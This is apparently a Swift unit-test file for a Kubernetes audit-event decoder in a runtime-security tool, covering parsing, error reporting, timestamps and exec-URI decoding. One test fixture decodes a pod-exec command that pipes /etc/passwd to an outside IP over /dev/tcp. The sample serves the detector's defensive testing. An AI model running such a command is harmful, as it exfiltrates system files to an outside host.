// SPDX-License-Identifier: Apache-2.0
// The audit decoder: EventList, single Event and JSON-lines input; a bad item is reported with its
// position and reason and the rest is kept; timestamps, exec URIs and trace round trip.

import Foundation
@testable import RuntimeWatchCore
import XCTest

final class K8sAuditDecoderTests: XCTestCase {
    static func eventJSON(_ id: String, stage: String = "ResponseComplete", extra: String = "") -> String {
        #"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"\#(id)","stage":"\#(stage)","requestURI":"/api/v1/secrets","verb":"list","user":{"username":"u"},"objectRef":{"resource":"secrets","apiVersion":"v1"},"stageTimestamp":"2026-11-20T09:00:00.000001Z","someFutureField":{"x":[1,2]}\#(extra)}"#
    }

    func testEventListKeepsGoodItemsAndReportsTheBadOneByPosition() throws {
        let body = #"{"kind":"EventList","apiVersion":"audit.k8s.io/v1","metadata":{},"items":["# + Self.eventJSON("a") + ","
            + #"{"kind":"Event","auditID":"b","stage":"ResponseComplete","verb":"get","user":{}}"# + ","
            + Self.eventJSON("c") + "]}"
        let result = try AuditEventDecoder.decodeDocument(Array(body.utf8))
        XCTAssertEqual(result.events.map(\.auditID), ["a", "c"])
        XCTAssertEqual(result.issues.count, 1)
        XCTAssertEqual(result.issues.first?.position, "items[1]")
        XCTAssertTrue(result.issues.first?.reason.contains("requestURI") ?? false, result.issues.first?.reason ?? "")
    }

    func testSingleEventAndNonJSON() throws {
        XCTAssertEqual(try AuditEventDecoder.decodeDocument(Array(Self.eventJSON("x").utf8)).events.map(\.auditID), ["x"])
        XCTAssertThrowsError(try AuditEventDecoder.decodeDocument(Array("this is not json".utf8))) { error in
            let issue = error as? AuditDecodeIssue
            XCTAssertEqual(issue?.position, "body")
            XCTAssertTrue(issue?.reason.hasPrefix("not valid JSON") ?? false, "\(String(describing: issue))")
        }
        XCTAssertThrowsError(try AuditEventDecoder.decodeDocument(Array("[1,2]".utf8)))
        XCTAssertThrowsError(try AuditEventDecoder.decodeDocument(Array(#"{"kind":"PodList","items":null}"#.utf8)))
    }

    func testJSONLinesReportLineNumbersAndSkipBlankLines() {
        let text = Self.eventJSON("1") + "\n\n{\"auditID\": truncated\n" + Self.eventJSON("2") + "\n"
        let result = AuditEventDecoder.decodeLines(Array(text.utf8))
        XCTAssertEqual(result.events.map(\.auditID), ["1", "2"])
        XCTAssertEqual(result.issues.map(\.position), ["line 3"])
        XCTAssertTrue(result.issues[0].reason.hasPrefix("not valid JSON"), result.issues[0].reason)
    }

    /// `requestObject` is whatever the client sent: a body of a shape no rule reads (here a Pod
    /// whose containers field is not a list) is left out, and the event still counts.
    func testAnUnreadableRequestBodyDoesNotRejectTheEvent() {
        let line = #"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"u1","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/a/pods","verb":"create","user":{"username":"bob"},"objectRef":{"resource":"pods","namespace":"a"},"requestObject":{"kind":"Pod","spec":{"containers":"oops"}},"stageTimestamp":"2026-11-20T09:00:00.000000Z"}"#
        let result = AuditEventDecoder.decodeLines(Array(line.utf8))
        XCTAssertEqual(result.issues, [])
        XCTAssertEqual(result.events.map(\.verb), ["create"])
        XCTAssertNil(result.events.first?.requestObject)
    }

    func testRecordNeedsATimestamp() throws {
        var e = try AuditEventDecoder.decodeDocument(Array(Self.eventJSON("t").utf8)).events[0]
        XCTAssertEqual(try AuditEventDecoder.record(e, position: "p").timestamp, 1_795_165_200_000_001_000)
        e.stageTimestamp = "yesterday"
        e.requestReceivedTimestamp = nil
        XCTAssertThrowsError(try AuditEventDecoder.record(e, position: "line 9")) { error in
            XCTAssertEqual((error as? AuditDecodeIssue)?.position, "line 9")
        }
    }

    /// An `audit.k8s.io/v1beta1` event from an API server before 1.10 has neither
    /// `requestReceivedTimestamp` nor `stageTimestamp`, only `timestamp` (to the second): the first
    /// line of liggitt/audit2rbac's `testdata/demo.log` (Fixtures/k8s-audit/public). It was refused
    /// ("no valid stageTimestamp or requestReceivedTimestamp"); its `timestamp` is its time.
    func testAV1beta1EventWithOnlyTimestampIsTimedByIt() throws {
        let line = #"{"kind":"Event","apiVersion":"audit.k8s.io/v1beta1","metadata":{"creationTimestamp":"2017-09-11T19:55:05Z"},"level":"Metadata","timestamp":"2017-09-11T19:55:05Z","auditID":"033d17af-082d-4b24-aa22-627752e83d71","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/pods","verb":"list","user":{"username":"system:admin","groups":["system:masters","system:authenticated"]},"impersonatedUser":{"username":"bob","groups":["system:authenticated"]},"sourceIPs":["::1"],"objectRef":{"resource":"pods","namespace":"default","apiVersion":"v1"},"responseStatus":{"metadata":{},"status":"Failure","message":"pods is forbidden: User \"bob\" cannot list pods in the namespace \"default\"","reason":"Forbidden","details":{"kind":"pods"},"code":403}}"#
        let decoded = AuditEventDecoder.decodeLines(Array(line.utf8))
        XCTAssertEqual(decoded.issues, [])
        let e = try XCTUnwrap(decoded.events.first)
        XCTAssertEqual(try AuditEventDecoder.record(e, position: "line 1").timestamp, 1_505_159_705_000_000_000)
        // The later fields win when present (Falco's v1beta1 traces carry all three).
        var later = e
        later.requestReceivedTimestamp = "2017-09-11T19:55:05.250000Z"
        XCTAssertEqual(later.timestampNanoseconds, 1_505_159_705_250_000_000)
        later.stageTimestamp = "2017-09-11T19:55:05.500000Z"
        XCTAssertEqual(later.timestampNanoseconds, 1_505_159_705_500_000_000)
    }

    private static let goodItem = #"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"ID","stage":"ResponseComplete","requestURI":"/api/v1/secrets","verb":"list","user":{"username":"mallory"},"objectRef":{"resource":"secrets"},"responseStatus":{"code":200},"stageTimestamp":"2026-12-05T01:00:00.000001Z"}"#

    private func list(_ items: [String]) -> [UInt8] {
        Array((#"{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":["# + items.joined(separator: ",") + "]}").utf8)
    }

    /// Issue 19: one item nested 1,000 levels deep made the whole batch a 400, dropping its siblings.
    func testAnItemNestedPastTheDecodersLimitIsSkippedAloneAndItsSiblingsKept() throws {
        let deep = #"{"kind":"Event","auditID":"deep","x":"# + String(repeating: "[", count: 1000) + String(repeating: "]", count: 1000) + "}"
        let result = try AuditEventDecoder.decodeDocument(list([Self.goodItem.replacingOccurrences(of: "\"ID\"", with: "\"a\""), deep,
                                                                Self.goodItem.replacingOccurrences(of: "\"ID\"", with: "\"b\"")]))
        XCTAssertEqual(result.events.map(\.auditID), ["a", "b"])
        XCTAssertEqual(result.issues.map(\.position), ["items[1]"])
        XCTAssertTrue(result.issues.first?.reason.hasPrefix("nested more than 512 levels deep") == true, "\(result.issues)")
    }

    /// Issue 19: item reasons said "a number out of range for its field" without the field, and a
    /// lone surrogate was not placed either.
    func testAnItemsReasonNamesItsFieldForABadNumberOrALoneSurrogate() throws {
        let big = Self.goodItem.replacingOccurrences(of: #""code":200"#, with: #""code":99999999999999999999"#)
        let surrogate = Self.goodItem.replacingOccurrences(of: #""auditID":"ID""#, with: #""auditID":"\ud800""#)
        let result = try AuditEventDecoder.decodeDocument(list([big, Self.goodItem, surrogate]))
        XCTAssertEqual(result.events.map(\.auditID), ["ID"])
        XCTAssertEqual(result.issues.map(\.position), ["items[0]", "items[2]"])
        XCTAssertTrue(result.issues[0].reason.hasPrefix(#"field "responseStatus.code": the number 99999999999999999999 does not fit"#), result.issues[0].reason)
        XCTAssertTrue(result.issues[1].reason.hasPrefix(#"field "auditID": a \u escape at column"#), result.issues[1].reason)
        for issue in result.issues { XCTAssertFalse(issue.reason.contains("Foundation") || issue.reason.contains("JSONError"), issue.reason) }
    }

    func testEventListItemRangesFollowStringsAndDepthOnly() {
        let text = #" { "kind" : "EventList", "note": {"items": [1]}, "items" : [ {"a":"],}\"["} , [[]], 3 ,"x"] } "#
        let bytes = Array(text.utf8)
        let items = EventListItems.ranges(in: bytes)?.map { String(decoding: bytes[$0], as: UTF8.self) }
        XCTAssertEqual(items, [#"{"a":"],}\"["}"#, "[[]]", "3", #""x""#])
        XCTAssertEqual(EventListItems.ranges(in: Array(#"{"items":[]}"#.utf8)), [])
        for broken in [#"{"items":[{"a":1}"#, #"["items"]"#, #"{"kind":"Event"}"#, #"{"items":[{"a":"]}"#, ""] {
            XCTAssertNil(EventListItems.ranges(in: Array(broken.utf8)), broken)
        }
    }

    func testTimestamps() {
        XCTAssertEqual(RFC3339.parse("1970-01-01T00:00:00Z"), 0)
        XCTAssertEqual(RFC3339.parse("2026-11-20T09:00:00.123456Z"), 1_795_165_200_123_456_000)
        XCTAssertEqual(RFC3339.parse("2026-11-20T10:00:00.5+01:00"), 1_795_165_200_500_000_000)
        XCTAssertEqual(RFC3339.parse("2024-02-29T00:00:00.000000001Z"), 1_709_164_800_000_000_001)
        for bad in ["", "2026-11-20", "2026-13-01T00:00:00Z", "2026-11-20T09:00:00", "2026-11-20T09:00:00.Z", "1969-12-31T23:59:59Z"] {
            XCTAssertNil(RFC3339.parse(bad), bad)
        }
    }

    /// Fuzzing found years past 2554 trapping on overflow (a trace header's `start`): out of range now.
    func testTimestampsPastWhatNanosecondsHoldAreRefusedNotATrap() {
        XCTAssertEqual(RFC3339.parse("2554-07-21T23:34:33.709551615Z"), UInt64.max)
        XCTAssertNil(RFC3339.parse("2554-07-21T23:34:33.709551616Z"))
        XCTAssertNil(RFC3339.parse("2554-07-21T23:34:34Z"))
        XCTAssertNil(RFC3339.parse("8790-11-22T11:59:15.532627269Z"))
        XCTAssertNil(RFC3339.parse("9999-12-31T23:59:59.999999999-23:59"))
    }

    func testExecCommandFromURI() {
        let uri = "/api/v1/namespaces/prod/pods/web-0/exec?command=sh&command=-c&command=cat%20%2Fetc%2Fpasswd%20%3E%20%2Fdev%2Ftcp%2F1.2.3.4%2F80&container=web&stdin=true"
        XCTAssertEqual(ExecCommandDecoder.command(fromURI: uri), ["sh", "-c", "cat /etc/passwd > /dev/tcp/1.2.3.4/80"])
        XCTAssertEqual(ExecCommandDecoder.container(fromURI: uri), "web")
        XCTAssertEqual(ExecCommandDecoder.command(fromURI: "/api/v1/namespaces/a/pods/b/attach?container=c"), [])
        XCTAssertEqual(ExecCommandDecoder.percentDecode("100%zz%4"), "100%zz%4", "bad escapes kept literally")
        XCTAssertEqual(ExecCommandDecoder.percentDecode("%E9%9B%AA"), "雪")
    }

    func testAuditRecordRoundTripsThroughTheTraceFormat() throws {
        let record = EventRecord(timestamp: 1_795_165_200_123_456_000, event: .k8sAudit(EventSamples.fullAudit))
        let line = try record.jsonLine()
        XCTAssertTrue(line.hasPrefix(#"{"ts":1795165200123456000,"type":"k8s_audit","#), line)
        XCTAssertEqual(try JSONDecoder().decode(EventRecord.self, from: Data(line.utf8)), record)
    }
}
